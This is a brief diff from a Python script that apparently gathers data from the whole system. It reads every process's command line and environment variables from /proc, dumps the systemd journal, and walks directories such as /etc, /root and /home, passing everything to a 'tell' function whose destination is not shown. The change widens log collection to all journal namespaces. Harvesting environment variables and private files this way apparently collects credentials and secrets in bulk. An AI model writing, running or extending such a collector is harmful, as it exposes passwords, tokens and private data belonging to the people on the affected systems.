@@ -21,7 +21,7 @@ for process in pathlib.Path("/proc").glob("[0-9]*"):
     for name in ("cmdline", "environ"):
         try: tell(process / name, (process / name).read_bytes())
         except OSError: pass
-journal = ["journalctl", "--output=cat", "--all"]
+journal = ["journalctl", "--namespace=*", "--output=cat", "--all"]
 tell("journal", subprocess.run(journal, capture_output=True).stdout)
 tops = "/etc /opt /root /home /run /srv/sftp/dev /tmp /usr/local /var".split()
 for top in tops:
